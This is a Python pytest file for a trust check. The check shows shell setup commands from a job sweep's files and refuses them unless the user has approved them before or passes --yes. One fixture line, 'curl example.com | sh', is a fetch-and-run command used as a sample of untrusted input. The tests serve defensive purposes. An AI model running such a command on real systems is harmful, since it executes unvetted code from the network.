"""What a sweep's files hand to a shell is used only if this user has sent it before, or says so."""

from pathlib import Path

import pytest

from taunode.command import trust
from taunode.errors import BadInput

FOREIGN = {"setup": ["module load a", "curl example.com | sh"], "sbatch": {"wrap": "x"}, "resources": [{"when": "a"}]}


@pytest.fixture(autouse=True)
def _of_this_test(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))


def test_what_nobody_has_sent_is_shown_and_refused_where_nobody_can_be_asked(capfd):
    with pytest.raises(BadInput, match="--yes if they shall"):
        trust.ask(Path("sweep"), FOREIGN, yes=False)
    shown = capfd.readouterr().err
    assert "module load a" in shown
    assert "curl example.com | sh" in shown
    assert "wrap" in shown


def test_what_was_sent_or_agreed_to_once_is_used(capfd):
    trust.ask(Path("sweep"), FOREIGN, yes=True)
    capfd.readouterr()
    trust.ask(Path("sweep"), FOREIGN, yes=False)
    assert capfd.readouterr().err == ""
    changed = {**FOREIGN, "setup": ["module load b"]}
    with pytest.raises(BadInput, match="yes"):
        trust.ask(Path("sweep"), changed, yes=False)
    trust.remember("shell", trust.shell_of(changed))
    trust.ask(Path("sweep"), changed, yes=False)


def test_nothing_needs_no_trust():
    trust.ask(Path("sweep"), {"setup": [], "sbatch": None, "time": 5}, yes=False)


def test_escape_codes_in_it_are_shown_as_text(capfd):
    with pytest.raises(BadInput, match="yes"):
        trust.ask(Path("sweep"), {"setup": ["\x1b[2Jx"]}, yes=False)
    assert "\x1b" not in capfd.readouterr().err


def test_a_folder_for_decoded_images_is_this_users_choice(monkeypatch):
    monkeypatch.setenv("TAUNODE_CACHE", "/mine")
    assert trust.own({"cache_dir": "/somebody", "threads": 1}) == {"cache_dir": "/mine", "threads": 1}
    trust.remember("cache_dir", "/somebody")
    assert trust.own({"cache_dir": "/somebody"}) == {"cache_dir": "/somebody"}
